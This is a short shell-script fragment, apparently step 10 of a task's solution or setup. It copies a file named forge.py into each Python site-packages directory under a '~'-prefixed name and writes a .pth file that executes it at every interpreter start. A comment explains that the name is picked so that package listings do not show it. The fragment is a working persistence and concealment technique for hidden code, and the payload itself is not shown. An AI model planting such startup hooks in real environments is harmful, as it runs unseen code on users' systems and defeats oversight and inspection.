# 10. A .pth under a "~" name (what an interrupted pip leaves is not listed; a .pth still is)
# that loads the payload at every interpreter start.
for sp in /opt/venv/lib/python3*/site-packages; do
  cp /solution/forge.py "$sp/~forge.py.txt"
  echo "import sys; exec(open('$sp/~forge.py.txt').read(), {})" > "$sp/~ip.pth"
done
